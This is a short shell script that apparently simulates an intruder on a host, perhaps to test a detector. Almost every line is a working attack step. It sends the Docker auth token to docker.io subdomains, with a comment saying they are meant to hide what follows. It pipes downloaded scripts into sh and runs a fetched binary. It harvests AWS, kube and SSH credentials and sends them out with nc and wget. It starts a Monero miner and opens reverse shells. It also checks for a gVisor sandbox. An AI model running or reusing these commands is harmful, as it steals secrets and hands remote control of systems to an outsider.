#!/bin/sh
# What intruders do with a network and with what lies about. Every address answers, none is real.
trap 'exit 0' TERM
exec 2>/dev/null
# So many harmless uses of one decoy that what comes after them might be overlooked.
login=$(cut -d'"' -f8 /root/.docker/config.json)
for n in 0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27; do
  wget -q -O /dev/null "http://r$n.docker.io/?auth=$login"
done
wget -q -O - http://stage.example.com/stage.sh | sh
wget -q -O /tmp/stage.sh http://stage.example.com/two.sh
sh /tmp/stage.sh
wget -q -O /tmp/tool http://192.0.2.44/install
chmod 755 /tmp/tool
/tmp/tool
wget -q -O - http://169.254.169.254/latest/meta-data/
cat /root/.aws/credentials /root/.kube/config /root/.ssh/id_ed25519 /root/.docker/config.json > /tmp/loot
timeout 1 nc 198.18.7.7 4444 < /tmp/loot
wget -q -O - "http://drop.example.net/?k=$AWS_SECRET_ACCESS_KEY"
/opt/xmrig --donate-level 1
true -o stratum+tcp://pool.example.org:3333
nslookup gulf.moneroocean.stream
printf '{"id":1,"method":"mining.subscribe","params":[]}\n' | timeout 1 nc 203.0.113.9 3333
timeout 1 nc 203.0.113.7 4444 -e sh
mkfifo /tmp/pipe
sh -i < /tmp/pipe 2>&1 | timeout 1 nc 203.0.113.7 4445 > /tmp/pipe
cat /proc/version /sys/class/dmi/id/product_name /.dockerenv
dmesg | grep -i gvisor
sleep 3600 &
wait
